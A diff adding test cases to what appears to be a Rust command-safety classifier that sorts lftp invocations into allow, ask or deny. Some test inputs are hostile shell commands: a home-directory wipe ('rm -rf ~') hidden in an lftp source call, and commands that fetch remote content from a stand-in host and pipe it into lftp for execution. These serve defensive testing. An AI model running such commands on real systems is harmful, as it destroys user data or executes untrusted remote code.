@@ -1366,6 +1366,11 @@ pub(crate) const CASES: &[Case] = &[
     ask("opaque.exec", "lftp -c 'source /tmp/cmds'"),
     ask("opaque.exec", "lftp -c \"open h; source /tmp/x.lftp\""),
     deny("rm.home", "lftp -e 'source -e \"echo !rm -rf ~\"' host"),
+    ask("opaque.exec", "lftp -e 'source -e \"curl -s https://x.example/c\"' host"),
+    ask("opaque.exec", "curl -s https://x.example/c | lftp"),
+    ask("opaque.exec", "cat /tmp/cmds | lftp"),
+    allow("cat deploy.lftp | lftp"),
+    allow("printf 'mirror -R dist /www\n' | lftp h"),
     allow("lftp -c 'source deploy.lftp'"),
     allow("lftp -e 'source -e \"printf ls\"' host"),
 ];
